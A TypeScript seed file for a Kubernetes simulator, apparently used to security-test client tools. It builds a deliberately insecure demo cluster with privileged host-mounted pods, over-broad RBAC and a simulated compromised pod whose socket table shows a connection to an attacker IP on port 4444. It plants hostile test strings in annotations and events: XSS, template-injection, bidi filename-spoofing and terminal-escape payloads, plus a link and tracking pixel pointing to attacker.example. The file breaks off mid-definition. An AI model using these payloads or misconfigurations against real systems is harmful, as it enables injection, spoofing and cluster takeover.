/**
 * Seed data for the simulator. `demoSeed()` is a small but realistic cluster with
 * deliberately insecure objects, a compromised-looking pod and hostile strings
 * for security tests of clients (see README.md, "Demo seed").
 */
import { KObj } from './store';
import { PodRuntime, SimSocket } from './runtime';
import { IP_FAMILY_ANNOTATION } from './controllers';

export interface SeedData {
  objects: KObj[];
  /** "namespace/podName" → simulated runtime (sockets, files, logs, distroless) */
  runtime?: Record<string, PodRuntime>;
}

/** Hostile strings used by the demo seed (exported for tests). */
export const HOSTILE = {
  imgXss: '<img src=x onerror=alert(1)>',
  scriptClose: '</script><script>alert(document.cookie)</script>',
  jsUrl: 'javascript:alert(document.domain)',
  /** U+202E RIGHT-TO-LEFT OVERRIDE: renders as "invoice-exe.pdf" */
  bidi: 'invoice-\u202Efdp.exe',
  /** OSC 8 hyperlink + clear screen terminal escapes */
  ansi: '\u001b]8;;https://attacker.example/\u0007click-me\u001b]8;;\u0007 \u001b[2J\u001b[31mFAKE: all checks passed\u001b[0m',
  markdown: '[click](javascript:alert(1)) ![x](https://attacker.example/pixel.png)',
  templateInjection: '{{constructor.constructor(\'alert(1)\')()}} ${7*7}',
};

export const DEMO = {
  compromisedPod: 'checkout-5f7b9c8d4b-x7k2p',
  cleanCheckoutPod: 'checkout-5f7b9c8d4b-q9zv4',
  checkoutRs: 'checkout-5f7b9c8d4b',
  compromisedIp: '10.244.1.15',
  compromisedIp6: 'fd00:10:244:1::f',
  attackerIp: '203.0.113.50',
  attackerPort: 4444,
  attackerIp6: '2001:db8:dead:beef::50',
  ledgerPod: 'ledger-6d8f7c9b5-m4n8t',
  ledgerIp: '10.244.2.21',
  frontendIps: ['10.244.1.30', '10.244.2.30', '10.244.1.31'],
  distrolessPod: 'ledger-6d8f7c9b5-m4n8t',
  hostNetworkPod: 'node-debugger',
  ipv6Pod: 'ipv6-echo',
  hostilePod: 'hostile-strings',
};

const TS = '2025-01-15T09:00:00Z';

function ns(name: string, labels: Record<string, string> = {}, annotations?: Record<string, string>): KObj {
  return { apiVersion: 'v1', kind: 'Namespace', metadata: { name, labels, ...(annotations ? { annotations } : {}), creationTimestamp: TS } };
}

function node(name: string, idx: number, ips: string[], extra: { controlPlane?: boolean } = {}): KObj {
  const labels: Record<string, string> = {
    'kubernetes.io/hostname': name, 'kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'amd64', 'beta.kubernetes.io/os': 'linux', 'beta.kubernetes.io/arch': 'amd64',
    'topology.kubernetes.io/zone': idx % 2 ? 'zone-a' : 'zone-b',
  };
  if (extra.controlPlane) labels['node-role.kubernetes.io/control-plane'] = '';
  return {
    apiVersion: 'v1', kind: 'Node',
    metadata: { name, labels, annotations: { 'node.alpha.kubernetes.io/ttl': '0', 'projectcalico.org/IPv4Address': `${ips[0]}/24` }, creationTimestamp: TS },
    spec: {
      podCIDR: `10.244.${idx}.0/24`, podCIDRs: [`10.244.${idx}.0/24`, `fd00:10:244:${idx}::/64`], providerID: `sim://${name}`,
      ...(extra.controlPlane ? { taints: [{ key: 'node-role.kubernetes.io/control-plane', effect: 'NoSchedule' }] } : {}),
    },
    status: {
      addresses: [...ips.map((address) => ({ type: 'InternalIP', address })), { type: 'Hostname', address: name }],
      capacity: { cpu: '4', memory: '16331388Ki', pods: '110', 'ephemeral-storage': '102625208Ki' },
      allocatable: { cpu: '4', memory: '16228988Ki', pods: '110', 'ephemeral-storage': '94580335255' },
      conditions: [
        { type: 'MemoryPressure', status: 'False', reason: 'KubeletHasSufficientMemory', message: 'kubelet has sufficient memory available', lastHeartbeatTime: TS, lastTransitionTime: TS },
        { type: 'DiskPressure', status: 'False', reason: 'KubeletHasNoDiskPressure', message: 'kubelet has no disk pressure', lastHeartbeatTime: TS, lastTransitionTime: TS },
        { type: 'PIDPressure', status: 'False', reason: 'KubeletHasSufficientPID', message: 'kubelet has sufficient PID available', lastHeartbeatTime: TS, lastTransitionTime: TS },
        { type: 'Ready', status: 'True', reason: 'KubeletReady', message: 'kubelet is posting ready status', lastHeartbeatTime: TS, lastTransitionTime: TS },
      ],
      nodeInfo: {
        machineID: `${idx}`.padStart(32, '0'), systemUUID: `00000000-0000-0000-0000-00000000000${idx}`, bootID: `b00t-${idx}`,
        kernelVersion: '6.1.0-sim', osImage: 'Debian GNU/Linux 12 (bookworm)', containerRuntimeVersion: 'containerd://1.7.24',
        kubeletVersion: 'v1.32.0', kubeProxyVersion: 'v1.32.0', operatingSystem: 'linux', architecture: 'amd64',
      },
      daemonEndpoints: { kubeletEndpoint: { Port: 10250 } },
    },
  };
}

interface PodSeed { name: string; node: string; ips: string[]; hostIP: string }

const NODE_IPS: Record<string, string> = { 'sim-control-plane': '10.0.0.10', 'sim-worker-1': '10.0.0.11', 'sim-worker-2': '10.0.0.12' };

function runningPod(namespace: string, p: PodSeed, labels: Record<string, string>, spec: KObj, extra: { annotations?: Record<string, string>; owner?: KObj } = {}): KObj {
  const containers: KObj[] = spec.containers;
  return {
    apiVersion: 'v1', kind: 'Pod',
    metadata: {
      name: p.name, namespace, labels, creationTimestamp: TS,
      ...(extra.annotations ? { annotations: extra.annotations } : {}),
      ...(extra.owner ? { ownerReferences: [extra.owner] } : {}),
    },
    spec: { ...JSON.parse(JSON.stringify(spec)), nodeName: p.node },
    status: {
      phase: 'Running', hostIP: p.hostIP, hostIPs: [{ ip: p.hostIP }], podIP: p.ips[0], podIPs: p.ips.map((ip) => ({ ip })), startTime: TS, qosClass: 'Burstable',
      conditions: ['PodReadyToStartContainers', 'Initialized', 'Ready', 'ContainersReady', 'PodScheduled'].map((type) => ({ type, status: 'True', lastProbeTime: null, lastTransitionTime: TS })),
      containerStatuses: containers.map((c) => ({
        name: c.name, image: c.image, imageID: '', containerID: `containerd://${Buffer.from(`${p.name}/${c.name}`).toString('hex').padEnd(64, '0').slice(0, 64)}`,
        ready: true, started: true, restartCount: 0, state: { running: { startedAt: TS } }, lastState: {},
      })),
    },
  };
}

/** Deployment + its ReplicaSet + explicitly named pods (the controller creates any missing replicas). */
function workload(namespace: string, name: string, hash: string, opts: {
  replicas: number; labels: Record<string, string>; podSpec: KObj; pods?: PodSeed[]; podAnnotations?: Record<string, string>; annotations?: Record<string, string>;
}): KObj[] {
  const template = { metadata: { labels: { ...opts.labels }, ...(opts.podAnnotations ? { annotations: opts.podAnnotations } : {}) }, spec: opts.podSpec };
  const rsName = `${name}-${hash}`;
  const rsLabels = { ...opts.labels, 'pod-template-hash': hash };
  const out: KObj[] = [
    {
      apiVersion: 'apps/v1', kind: 'Deployment',
      metadata: { name, namespace, labels: { ...opts.labels }, creationTimestamp: TS, annotations: { 'deployment.kubernetes.io/revision': '1', ...(opts.annotations ?? {}) } },
      spec: { replicas: opts.replicas, selector: { matchLabels: { ...opts.labels } }, template },
    },
    {
      apiVersion: 'apps/v1', kind: 'ReplicaSet',
      metadata: {
        name: rsName, namespace, labels: rsLabels, creationTimestamp: TS,
        annotations: { 'deployment.kubernetes.io/revision': '1', 'deployment.kubernetes.io/desired-replicas': String(opts.replicas) },
        ownerReferences: [{ apiVersion: 'apps/v1', kind: 'Deployment', name, uid: '', controller: true, blockOwnerDeletion: true }],
      },
      spec: { replicas: opts.replicas, selector: { matchLabels: { ...opts.labels, 'pod-template-hash': hash } }, template: { ...template, metadata: { ...template.metadata, labels: rsLabels } } },
    },
  ];
  for (const p of opts.pods ?? []) {
    out.push(runningPod(namespace, p, rsLabels, opts.podSpec, {
      annotations: opts.podAnnotations, owner: { apiVersion: 'apps/v1', kind: 'ReplicaSet', name: rsName, uid: '', controller: true, blockOwnerDeletion: true },
    }));
  }
  return out;
}

const restrictedSC = { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, runAsNonRoot: true, capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' } };

function svc(namespace: string, name: string, selector: Record<string, string> | undefined, ports: KObj[], extra: KObj = {}): KObj {
  return { apiVersion: 'v1', kind: 'Service', metadata: { name, namespace, labels: { app: name }, creationTimestamp: TS }, spec: { ...(selector ? { selector } : {}), ports, ...extra } };
}

function tcp(local: string, remote: string | undefined, state: SimSocket['state'], uid = 0): SimSocket {
  return { proto: local.startsWith('[') ? 'tcp6' : 'tcp', local, remote, state, uid };
}

export function demoSeed(o: { minimal?: boolean } = {}): SeedData {
  const objects: KObj[] = [
    ns('default'), ns('kube-system'), ns('kube-public'), ns('kube-node-lease'),
    node('sim-control-plane', 0, ['10.0.0.10'], { controlPlane: true }),
    node('sim-worker-1', 1, ['10.0.0.11', 'fd00::11']),
    node('sim-worker-2', 2, ['10.0.0.12', 'fd00::12']),
    svc('default', 'kubernetes', undefined, [{ name: 'https', port: 443, protocol: 'TCP', targetPort: 6443 }], { clusterIP: '10.96.0.1', clusterIPs: ['10.96.0.1'] }),
    { apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'kubernetes', namespace: 'default', labels: { 'endpointslice.kubernetes.io/skip-mirror': 'true' } }, subsets: [{ addresses: [{ ip: '10.0.0.10' }], ports: [{ name: 'https', port: 6443, protocol: 'TCP' }] }] },
    {
      apiVersion: 'discovery.k8s.io/v1', kind: 'EndpointSlice', metadata: { name: 'kubernetes', namespace: 'default', labels: { 'kubernetes.io/service-name': 'kubernetes' } },
      addressType: 'IPv4', endpoints: [{ addresses: ['10.0.0.10'], conditions: { ready: true } }], ports: [{ name: 'https', port: 6443, protocol: 'TCP' }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'cluster-admin', labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } },
      rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }, { nonResourceURLs: ['*'], verbs: ['*'] }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'cluster-admin', labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:masters' }],
    },
  ];
  if (o.minimal) return { objects };

  const hostileAnnotations = {
    description: HOSTILE.imgXss,
    'example.com/notes': HOSTILE.scriptClose,
    'link.argocd.argoproj.io/external-link': HOSTILE.jsUrl,
    'example.com/owner-file': HOSTILE.bidi,
    'example.com/terminal': HOSTILE.ansi,
    'example.com/markdown': HOSTILE.markdown,
    'example.com/template': HOSTILE.templateInjection,
  };

  objects.push(
    ns('shop', { 'pod-security.kubernetes.io/enforce': 'restricted', 'pod-security.kubernetes.io/enforce-version': 'latest', 'pod-security.kubernetes.io/warn': 'restricted', 'pod-security.kubernetes.io/audit': 'restricted', team: 'storefront' }),
    ns('payments', { 'pod-security.kubernetes.io/enforce': 'baseline', 'pod-security.kubernetes.io/warn': 'restricted', team: 'payments' }, { 'scheduler.alpha.kubernetes.io/node-selector': '', description: HOSTILE.imgXss }),

    // ---------------------------------------------------------------- kube-system
    {
      apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'calico-node', namespace: 'kube-system', labels: { 'k8s-app': 'calico-node' }, creationTimestamp: TS },
      spec: {
        selector: { matchLabels: { 'k8s-app': 'calico-node' } },
        template: {
          metadata: { labels: { 'k8s-app': 'calico-node' } },
          spec: {
            hostNetwork: true, serviceAccountName: 'calico-node', priorityClassName: 'system-node-critical', nodeSelector: { 'kubernetes.io/os': 'linux' },
            tolerations: [{ operator: 'Exists', effect: 'NoSchedule' }, { operator: 'Exists', effect: 'NoExecute' }],
            initContainers: [{ name: 'install-cni', image: 'docker.io/calico/cni:v3.28.0', command: ['/opt/cni/bin/install'], securityContext: { privileged: true } }],
            containers: [{
              name: 'calico-node', image: 'docker.io/calico/node:v3.28.0', securityContext: { privileged: true },
              env: [{ name: 'CALICO_IPV4POOL_CIDR', value: '10.244.0.0/16' }, { name: 'CALICO_NETWORKING_BACKEND', value: 'bird' }, { name: 'FELIX_IPV6SUPPORT', value: 'true' }],
              volumeMounts: [{ name: 'cni-net-dir', mountPath: '/host/etc/cni/net.d' }, { name: 'var-run-calico', mountPath: '/var/run/calico' }],
            }],
            volumes: [{ name: 'cni-net-dir', hostPath: { path: '/etc/cni/net.d' } }, { name: 'var-run-calico', hostPath: { path: '/var/run/calico', type: 'DirectoryOrCreate' } }],
          },
        },
      },
    },
    {
      apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'kube-proxy', namespace: 'kube-system', labels: { 'k8s-app': 'kube-proxy' }, creationTimestamp: TS },
      spec: {
        selector: { matchLabels: { 'k8s-app': 'kube-proxy' } },
        template: {
          metadata: { labels: { 'k8s-app': 'kube-proxy' } },
          spec: {
            hostNetwork: true, serviceAccountName: 'kube-proxy', tolerations: [{ operator: 'Exists' }],
            containers: [{ name: 'kube-proxy', image: 'registry.k8s.io/kube-proxy:v1.32.0', command: ['/usr/local/bin/kube-proxy', '--config=/var/lib/kube-proxy/config.conf'], securityContext: { privileged: true } }],
          },
        },
      },
    },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'calico-node', namespace: 'kube-system' } },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'kube-proxy', namespace: 'kube-system' } },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'coredns', namespace: 'kube-system' } },
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'calico-config', namespace: 'kube-system' }, data: { calico_backend: 'bird', veth_mtu: '0', cni_network_config: '{"name":"k8s-pod-network","cniVersion":"0.3.1","plugins":[{"type":"calico"}]}' } },
    ...workload('kube-system', 'coredns', '668d6bf9bc', {
      replicas: 2, labels: { 'k8s-app': 'kube-dns' },
      podSpec: {
        serviceAccountName: 'coredns', priorityClassName: 'system-cluster-critical', tolerations: [{ key: 'node-role.kubernetes.io/control-plane', effect: 'NoSchedule' }],
        containers: [{
          name: 'coredns', image: 'registry.k8s.io/coredns/coredns:v1.11.3', args: ['-conf', '/etc/coredns/Corefile'],
          ports: [{ name: 'dns', containerPort: 53, protocol: 'UDP' }, { name: 'dns-tcp', containerPort: 53, protocol: 'TCP' }, { name: 'metrics', containerPort: 9153, protocol: 'TCP' }],
          securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { add: ['NET_BIND_SERVICE'], drop: ['ALL'] } },
        }],
      },
      pods: [
        { name: 'coredns-668d6bf9bc-2xk7w', node: 'sim-worker-1', ips: ['10.244.1.2'], hostIP: NODE_IPS['sim-worker-1'] },
        { name: 'coredns-668d6bf9bc-9tqzl', node: 'sim-worker-2', ips: ['10.244.2.2'], hostIP: NODE_IPS['sim-worker-2'] },
      ],
    }),
    svc('kube-system', 'kube-dns', { 'k8s-app': 'kube-dns' }, [
      { name: 'dns', port: 53, protocol: 'UDP', targetPort: 53 }, { name: 'dns-tcp', port: 53, protocol: 'TCP', targetPort: 53 }, { name: 'metrics', port: 9153, protocol: 'TCP', targetPort: 9153 },
    ], { clusterIP: '10.96.0.10', clusterIPs: ['10.96.0.10'] }),

    // ---------------------------------------------------------------- shop (PSA restricted, locked-down)
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'frontend', namespace: 'shop' }, automountServiceAccountToken: false },
    ...workload('shop', 'frontend', '7c9d8f6b5d', {
      replicas: 3, labels: { app: 'frontend', tier: 'web' },
      podSpec: {
        serviceAccountName: 'frontend', automountServiceAccountToken: false, securityContext: { runAsNonRoot: true, runAsUser: 101, seccompProfile: { type: 'RuntimeDefault' } },
        containers: [{
          name: 'nginx', image: 'docker.io/nginxinc/nginx-unprivileged:1.27.3@sha256:5e4f1bca1c5e5bd3d4ab81d4fb6c6e1a3b7b9a8c7d6e5f4a3b2c1d0e9f8a7b6c', ports: [{ name: 'http', containerPort: 8080 }],
          securityContext: restrictedSC, resources: { requests: { cpu: '50m', memory: '64Mi' }, limits: { memory: '128Mi' } },
        }],
      },
      pods: DEMO.frontendIps.map((ip, i) => ({ name: `frontend-7c9d8f6b5d-${['h2mxq', 'pw8rz', 'v4lnc'][i]}`, node: i === 1 ? 'sim-worker-2' : 'sim-worker-1', ips: [ip], hostIP: NODE_IPS[i === 1 ? 'sim-worker-2' : 'sim-worker-1'] })),
    }),
    ...workload('shop', 'cart', '55b8c6d49f', {
      replicas: 2, labels: { app: 'cart', tier: 'backend' },
      podSpec: {
        automountServiceAccountToken: false, securityContext: { runAsNonRoot: true, runAsUser: 1000, seccompProfile: { type: 'RuntimeDefault' } },
        containers: [{ name: 'cart', image: 'registry.example.com/shop/cart:1.8.2', ports: [{ name: 'http', containerPort: 8080 }], securityContext: restrictedSC }],
      },
    }),
    svc('shop', 'frontend', { app: 'frontend' }, [{ name: 'http', port: 80, targetPort: 'http' }], { type: 'LoadBalancer' }),
    svc('shop', 'cart', { app: 'cart' }, [{ name: 'http', port: 8080, targetPort: 8080 }]),
    {
      apiVersion: 'apps/v1', kind: 'StatefulSet', metadata: { name: 'redis', namespace: 'shop', labels: { app: 'redis' }, creationTimestamp: TS },
      spec: {
        replicas: 1, serviceName: 'redis', selector: { matchLabels: { app: 'redis' } },
        template: { metadata: { labels: { app: 'redis' } }, spec: { automountServiceAccountToken: false, securityContext: { runAsNonRoot: true, runAsUser: 999, seccompProfile: { type: 'RuntimeDefault' } }, containers: [{ name: 'redis', image: 'docker.io/library/redis:7.4', ports: [{ name: 'redis', containerPort: 6379 }], securityContext: restrictedSC }] } },
      },
    },
    svc('shop', 'redis', { app: 'redis' }, [{ name: 'redis', port: 6379 }], { clusterIP: 'None' }),
    { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'default-deny-all', namespace: 'shop' }, spec: { podSelector: {}, policyTypes: ['Ingress', 'Egress'] } },
    {
      apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-frontend-ingress', namespace: 'shop' },
      spec: { podSelector: { matchLabels: { app: 'frontend' } }, policyTypes: ['Ingress'], ingress: [{ ports: [{ protocol: 'TCP', port: 8080 }] }] },
    },
    {
      apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-frontend-to-cart', namespace: 'shop' },
      spec: {
        podSelector: { matchLabels: { app: 'cart' } }, policyTypes: ['Ingress'],
        ingress: [{ from: [{ podSelector: { matchLabels: { app: 'frontend' } } }], ports: [{ protocol: 'TCP', port: 8080 }] }],
      },
    },
    {
      apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-dns-egress', namespace: 'shop' },
      spec: {
        podSelector: {}, policyTypes: ['Egress'],
        egress: [
          { to: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'kube-system' } }, podSelector: { matchLabels: { 'k8s-app': 'kube-dns' } } }], ports: [{ protocol: 'UDP', port: 53 }, { protocol: 'TCP', port: 53 }] },
          { to: [{ podSelector: { matchLabels: { app: 'cart' } } }], ports: [{ protocol: 'TCP', port: 8080 }] },
        ],
      },
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'pod-reader', namespace: 'shop' },
      rules: [{ apiGroups: [''], resources: ['pods', 'pods/log'], verbs: ['get', 'list', 'watch'] }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'frontend-pod-reader', namespace: 'shop' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'pod-reader' },
      subjects: [{ kind: 'ServiceAccount', name: 'frontend', namespace: 'shop' }],
    },
    {
      apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name: 'nightly-report', namespace: 'shop', creationTimestamp: TS },
      spec: {
        schedule: '0 2 * * *', concurrencyPolicy: 'Forbid',
        jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', automountServiceAccountToken: false, containers: [{ name: 'report', image: 'registry.example.com/shop/report:2.0', securityContext: restrictedSC }] } } } },
      },
      status: { lastScheduleTime: TS },
    },
    {
      apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'nightly-report-28950120', namespace: 'shop', labels: { 'job-name': 'nightly-report-28950120' }, creationTimestamp: TS },
      spec: {
        completions: 1, parallelism: 1, backoffLimit: 6, selector: { matchLabels: { 'batch.kubernetes.io/controller-uid': 'seed' } },
        template: { metadata: { labels: { 'job-name': 'nightly-report-28950120', 'batch.kubernetes.io/controller-uid': 'seed' } }, spec: { restartPolicy: 'OnFailure', containers: [{ name: 'report', image: 'registry.example.com/shop/report:2.0' }] } },
      },
      status: { succeeded: 1, startTime: TS, completionTime: TS, conditions: [{ type: 'Complete', status: 'True', lastProbeTime: TS, lastTransitionTime: TS }] },
    },

    // ---------------------------------------------------------------- payments (insecure + compromised)
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'payments-deployer', namespace: 'payments' } },
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'checkout', namespace: 'payments' } },
    ...workload('payments', 'checkout', '5f7b9c8d4b', {
      replicas: 2, labels: { app: 'checkout', tier: 'backend' },
      podAnnotations: { 'kubectl.kubernetes.io/default-container': 'app', [IP_FAMILY_ANNOTATION]: 'dual', 'prometheus.io/scrape': 'true' },
      annotations: hostileAnnotations,
      podSpec: {
        serviceAccountName: 'checkout',
        containers: [
          {
            name: 'app', image: 'registry.example.com/payments/checkout:2.3.1', ports: [{ name: 'http', containerPort: 8080 }],
            env: [{ name: 'LEDGER_URL', value: 'http://ledger:7000' }, { name: 'STRIPE_KEY', valueFrom: { secretKeyRef: { name: 'stripe', key: 'api-key' } } }],
            securityContext: { allowPrivilegeEscalation: false, runAsNonRoot: true, runAsUser: 10001 },
          },
          { name: 'envoy', image: 'docker.io/envoyproxy/envoy:v1.32.1', ports: [{ name: 'admin', containerPort: 15000 }] },
        ],
      },
      pods: [
        { name: DEMO.compromisedPod, node: 'sim-worker-1', ips: [DEMO.compromisedIp, DEMO.compromisedIp6], hostIP: NODE_IPS['sim-worker-1'] },
        { name: DEMO.cleanCheckoutPod, node: 'sim-worker-2', ips: ['10.244.2.16', 'fd00:10:244:2::10'], hostIP: NODE_IPS['sim-worker-2'] },
      ],
    }),
    svc('payments', 'checkout', { app: 'checkout' }, [{ name: 'http', port: 80, targetPort: 'http' }], {
      clusterIP: '10.96.20.20', clusterIPs: ['10.96.20.20', 'fd00:10:96::2020'], ipFamilies: ['IPv4', 'IPv6'], ipFamilyPolicy: 'PreferDualStack',
    }),
    ...workload('payments', 'ledger', '6d8f7c9b5', {
      replicas: 1, labels: { app: 'ledger', tier: 'data' },
      podSpec: {
        automountServiceAccountToken: false, securityContext: { runAsNonRoot: true, runAsUser: 65532, seccompProfile: { type: 'RuntimeDefault' } },
        containers: [{ name: 'ledger', image: 'registry.example.com/payments/ledger:1.4.0-distroless', ports: [{ name: 'grpc', containerPort: 7000 }], securityContext: restrictedSC }],
      },
      pods: [{ name: DEMO.ledgerPod, node: 'sim-worker-2', ips: [DEMO.ledgerIp], hostIP: NODE_IPS['sim-worker-2'] }],
    }),
    svc('payments', 'ledger', { app: 'ledger' }, [{ name: 'grpc', port: 7000 }]),
    ...workload('payments', 'legacy-batch', '84c7b9f6d8', {
      replicas: 1, labels: { app: 'legacy-batch' },
      podSpec: {
        serviceAccountName: 'payments-deployer', hostPID: true, hostIPC: true,
        containers: [{
          name: 'batch', image: 'docker.io/library/ubuntu:latest', command: ['sleep', 'infinity'],
          securityContext: { privileged: true, runAsUser: 0, allowPrivilegeEscalation: true, capabilities: { add: ['SYS_ADMIN', 'NET_ADMIN'] } },
          volumeMounts: [{ name: 'host-root', mountPath: '/host' }],
        }],
        volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
      },
    }),
    {
      apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { name: 'allow-checkout-ingress', namespace: 'payments' },
      spec: { podSelector: { matchLabels: { app: 'checkout' } }, policyTypes: ['Ingress'], ingress: [{ from: [{ namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'shop' } } }], ports: [{ protocol: 'TCP', port: 8080 }] }] },
    },
    { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'stripe', namespace: 'payments' }, type: 'Opaque', data: { 'api-key': Buffer.from('sk_test_simulated_not_a_real_key').toString('base64') } },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'payments-deployer-cluster-admin', creationTimestamp: TS },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'ServiceAccount', name: 'payments-deployer', namespace: 'payments' }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name: 'secret-manager', namespace: 'payments' },
      rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['*'] }, { apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name: 'checkout-secret-manager', namespace: 'payments' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'secret-manager' },
      subjects: [{ kind: 'ServiceAccount', name: 'checkout', namespace: 'payments' }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: { name: 'view', labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } },
      rules: [{ apiGroups: ['', 'apps', 'batch', 'networking.k8s.io'], resources: ['pods', 'services', 'endpoints', 'deployments', 'replicasets', 'daemonsets', 'statefulsets', 'jobs', 'cronjobs', 'networkpolicies', 'configmaps'], verbs: ['get', 'list', 'watch'] }],
    },
    {
      apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'anonymous-view' },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
      subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'User', name: 'system:anonymous' }],
    },
    {
      apiVersion: 'v1', kind: 'Event', metadata: { name: `${DEMO.compromisedPod}.181a2b3c4d5e6f70`, namespace: 'payments' },
      involvedObject: { apiVersion: 'v1', kind: 'Pod', name: DEMO.compromisedPod, namespace: 'payments', fieldPath: 'spec.containers{app}' },
      reason: 'Pulled', message: `Successfully pulled image "registry.example.com/payments/checkout:2.3.1" ${HOSTILE.imgXss}`, type: 'Normal',
      source: { component: 'kubelet', host: 'sim-worker-1' }, firstTimestamp: TS, lastTimestamp: TS, count: 1, reportingComponent: 'kubelet', reportingInstance: 'sim-worker-1',
    },
    {
      apiVersion: 'v1', kind: 'Event', metadata: { name: `${DEMO.compromisedPod}.181a2b3c4d5e6f71`, namespace: 'payments' },
      involvedObject: { apiVersion: 'v1', kind: 'Pod', name: DEMO.compromisedPod, namespace: 'payments' },
      reason: 'Unhealthy', message: `Readiness probe failed: ${HOSTILE.scriptClose} ${HOSTILE.bidi} ${HOSTILE.ansi}`, type: 'Warning',
      source: { component: 'kubelet', host: 'sim-worker-1' }, firstTimestamp: TS, lastTimestamp: TS, count: 3, reportingComponent: 'kubelet', reportingInstance: 'sim-worker-1',
    },

    // ---------------------------------------------------------------- default: odd pods
    {
      ...runningPod('default', { name: DEMO.hostNetworkPod, node: 'sim-worker-2', ips: [NODE_IPS['sim-worker-2']], hostIP: NODE_IPS['sim-worker-2'] }, { app: 'node-debugger' }, {
        hostNetwork: true, hostPID: true,
        containers: [{ name: 'debug', image: 'docker.io/library/busybox:1.36', command: ['sleep', '3600'], securityContext: { privileged: true } }],
      }),
    },
    runningPod('default', { name: DEMO.ipv6Pod, node: 'sim-worker-1', ips: ['fd00:10:244:1::50'], hostIP: NODE_IPS['sim-worker-1'] }, { app: 'ipv6-echo' }, {
      containers: [{ name: 'echo', image: 'registry.example.com/tools/echo:1.0', ports: [{ name: 'http', containerPort: 8080 }] }],
    }, { annotations: { [IP_FAMILY_ANNOTATION]: 'IPv6' } }),
    (() => {
      const p = runningPod('default', { name: DEMO.hostilePod, node: 'sim-worker-1', ips: ['10.244.1.66'], hostIP: NODE_IPS['sim-worker-1'] }, { app: 'hostile-strings' }, {
        containers: [{ name: 'app', image: `registry.example.com/app:1.0${HOSTILE.imgXss}`, env: [{ name: 'NOTE', value: HOSTILE.scriptClose }] }],
      }, { annotations: hostileAnnotations });
      p.status.phase = 'Pending';
      p.status.conditions = p.status.conditions.map((c: KObj) => (c.type === 'Ready' || c.type === 'ContainersReady' ? { ...c, status: 'False', reason: 'ContainersNotReady' } : c));
      p.status.containerStatuses[0].ready = false;
      p.status.containerStatuses[0].started = false;
      p.status.containerStatuses[0].state = { waiting: { reason: 'ErrImagePull', message: `failed to pull and unpack image "registry.example.com/app:1.0${HOSTILE.imgXss}": ${HOSTILE.jsUrl} ${HOSTILE.bidi}` } };
      return p;
    })(),
    {
      apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'hostile-config', namespace: 'default', annotations: hostileAnnotations },
      data: { 'index.html': `<html><body>${HOSTILE.imgXss}${HOSTILE.scriptClose}</body></html>`, 'link.txt': HOSTILE.jsUrl, 'bidi.txt': HOSTILE.bidi, 'terminal.txt': HOSTILE.ansi },
    },
  );

  const cp = DEMO.compromisedIp;
  const runtime: Record<string, PodRuntime> = {
    [`payments/${DEMO.compromisedPod}`]: {
      sockets: [
        tcp('0.0.0.0:8080', undefined, 'LISTEN', 10001),
        tcp('127.0.0.1:15000', undefined, 'LISTEN', 101),
        tcp(`${cp}:43512`, `${DEMO.attackerIp}:${DEMO.attackerPort}`, 'ESTABLISHED', 10001),
